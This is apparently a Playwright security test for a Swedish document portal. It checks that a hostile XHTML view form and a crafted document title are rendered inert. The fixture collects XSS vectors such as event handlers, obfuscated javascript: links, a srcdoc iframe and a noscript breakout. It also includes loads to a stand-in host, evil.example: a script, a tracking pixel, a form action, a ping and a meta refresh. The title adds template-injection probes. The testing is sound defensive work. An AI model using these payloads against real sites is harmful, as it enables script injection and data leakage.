import { saying } from '../../fixtures/archive-between/faults'
import { documentPage } from '../../pages/document-page'
import { expect, test } from '../../troubled-test'

/** A view form that the archive would never take: as if somebody had written past it, into its database. */
const hostile = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html [<!ENTITY x "entity">]>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink" lang="sv">
<head><title>x</title><base href="https://evil.example/"/><meta http-equiv="refresh" content="0;url=https://evil.example"/>
<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/a.css"/></head>
<body onload="window.pwned=1" style="display:none" class="header" id="main">
<h1 onclick="window.pwned=1">Beslut</h1>
<script>window.pwned=1</script><script src="https://evil.example/a.js"></script>
<img src="x" onerror="window.pwned=1" alt="bild"/><img src="https://evil.example/pixel.png" alt="pixel"/>
<svg onload="window.pwned=1"><a xlink:href="javascript:window.pwned=1"><text>svg</text></a></svg>
<math><mtext><img src="x" onerror="window.pwned=1"/></mtext></math>
<iframe srcdoc="&lt;script&gt;parent.pwned=1&lt;/script&gt;"></iframe><object data="https://evil.example"></object>
<form action="https://evil.example"><input name="hetu" autofocus="" onfocus="window.pwned=1"/><button>Logga in</button></form>
<p><a href="javascript:window.pwned=1">länk ett</a> <a href="&#x6a;avascript:window.pwned=1">länk två</a>
<a href="data:text/html,&lt;script&gt;1&lt;/script&gt;">länk tre</a> <a href="//evil.example">länk fyra</a>
<a href="https://county.example/" target="_top" ping="https://evil.example">länk fem</a></p>
<p style="position:fixed;inset:0;background:url(https://evil.example/b.png)">Texten som ska läsas.</p>
<noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=window.pwned=1&gt;">a</p></noscript>
<template><img src="x" onerror="window.pwned=1"/></template>
<![CDATA[<img src=x onerror=window.pwned=1>]]>
<p>&lt;script&gt;window.pwned=1&lt;/script&gt;</p>
</body></html>`

test('whatever stands in a view form, it does nothing and fetches nothing @documents', async ({
  page,
  people,
  signIn,
  archive,
  portalUrl,
}) => {
  const { anna } = await people({ anna: { documents: [{ title: 'Beslut om ledsagning' }] } })
  await signIn(anna)
  const elsewhere: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(portalUrl) && !request.url().startsWith('data:'))
      elsewhere.push(request.url())
  })
  const broken: string[] = []
  page.on('console', (message) => {
    if (/Content.Security.Policy/i.test(message.text())) broken.push(message.text())
  })
  archive.fail(
    anna,
    saying((text) => (text.startsWith('<') ? hostile : text)),
    'Binary',
  )
  await documentPage(page).open(anna.documents[0]?.id ?? '')

  const { sheet } = documentPage(page)
  await expect(sheet).toContainText('Texten som ska läsas.')
  await expect(sheet).toContainText('<script>window.pwned=1</script>')
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
  expect(elsewhere).toEqual([])
  expect(broken).toEqual([])
  await expect(
    sheet.locator('script, style, iframe, object, svg, math, form, input, base, meta'),
  ).toHaveCount(0)
  const attributes = await sheet
    .locator('*')
    .evaluateAll((elements) => elements.flatMap((element) => element.getAttributeNames()))
  for (const name of attributes) expect(name).not.toMatch(/^(on|style|srcdoc|target|ping)/)

  await expect(sheet.getByRole('link')).toHaveCount(1)
  const link = sheet.getByRole('link', { name: 'länk fem' })
  await expect(link).toHaveAttribute('href', 'https://county.example/')
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow')

  const file = await page.request.get(`${page.url()}/document.pdf`)
  const text = (await file.body()).toString('latin1')
  expect(text).not.toMatch(/\/(JavaScript|JS|Launch|OpenAction|EmbeddedFile)\b/)
  expect(text).not.toContain('javascript:')
})

test('a title is words, whatever it looks like @documents', async ({ page, people, signIn }) => {
  const title = '<img src=x onerror="window.pwned=1"> {{7*7}} ${7*7} </script>'
  const { anna } = await people({ anna: { documents: [{ title }] } })
  await signIn(anna)
  for (const path of [
    '/sv/self',
    '/sv/self/documents',
    `/sv/self/documents/${anna.documents[0]?.id}`,
  ]) {
    await page.goto(path)
    await expect(page.getByText(title).first()).toBeVisible()
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
  }
})
